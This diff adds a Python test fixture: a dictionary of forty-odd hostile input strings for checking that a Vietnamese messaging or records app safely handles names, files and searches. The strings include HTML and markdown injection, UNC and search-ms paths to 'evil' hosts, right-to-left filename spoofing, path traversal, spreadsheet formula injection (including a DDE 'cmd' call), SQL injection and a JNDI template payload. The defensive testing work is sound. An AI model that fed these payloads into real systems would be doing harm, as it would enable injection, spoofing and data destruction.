@@ -1,0 +1,55 @@
+"""The texts among the forty hostile inputs (threats.md §8), by their number there.
+
+Numbers 31 to 36 are bodies (``test_bodies``), 37 and 38 pictures (``corpus``), 39 is a media reply (``tests/zalo/test_media``).
+``{file}`` and ``{web}`` are filled in by a test: a file and an address of this machine that must never be touched, so that
+a widget that renders markup is caught at it.
+"""
+
+HOSTILE: dict[str, str] = {
+    "01-img": '<img src="{file}">',
+    "01-img-web": '<img src="{web}/x.png">',
+    "01-img-unc": '<img src="file://10.0.0.9/s/x.png">',
+    "02-link": '<a href="file:///C:/Windows/System32/calc.exe">Xem ảnh</a>',
+    "03-table": 'Nguyễn Văn An<table background="{file}">',
+    "04-entity": "&lt;img src=x&gt;",
+    "05-markdown": "![x]({file})",
+    "06-userinfo": "https://zalo.me@evil.vn",
+    "07-punycode": "https://xn--zal-7na.me",
+    "08-search-ms": "search-ms:query=x&crumb=location:\\\\evil\\s",
+    "09-unc": "\\\\evil\\share\\a.jpg",
+    "10-javascript": "javascript:alert(1)",
+    "11-rlo": "báo-cáo\u202egpj.exe",
+    "12-isolates": "ảnh\u2067\u2066fdp\u2069.exe",
+    "13-traversal": "../../../../Users/Public/x.bat",
+    "14-device": "CON.png",
+    "14-stream": "a.png:evil.exe",
+    "14-dots": "x. . .",
+    "15-long-name": "Nguyễn" * 40 + ".jpg",
+    "16-zalgo": "a" + "\u0301" * 20_000,
+    "17-no-space": "a" * 1_000_000,
+    "18-line-breaks": "\n" * 100_000,
+    "19-family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 5_000,
+    "20-wide": "\ufdfd\U00012031" * 60,
+    "21-nfc": "Nguyễn",
+    "21-nfd": "Nguye\u0302\u0303n",
+    "22-zero-width": "0912\u200b345678",
+    "23-cyrillic": "Соng аn",
+    "24-surrogate": "x\ud800y",
+    "25-controls": "a\x00b\x1b[31mc\x07d\x85e\u2028f",
+    "26-formula": '=HYPERLINK("http://e/"&A1)',
+    "27-wide-formula": "＝cmd|' /C calc'!A0",
+    "28-tab-formula": "\t=1+1",
+    "28-line-formula": "\n=1+1",
+    "28-minus": " -2+3",
+    "29-sql": "'; DROP TABLE message;--",
+    "29-or": '" OR 1=1',
+    "29-near": "NEAR(",
+    "29-star": "*",
+    "29-quote": '"a" AND ("b',
+    "30-template": "%s %n {0.__class__} ${jndi:x} {ma_vu_viec}",
+    "40-system": "Hệ thống",
+    "40-chief": "BAN CHỈ HUY ✓",
+    "40-empty": "",
+    "40-space": " ",
+}
+"""What a citizen, a file's name, a note or a search may hold. An officer's name and another citizen's are in the test."""
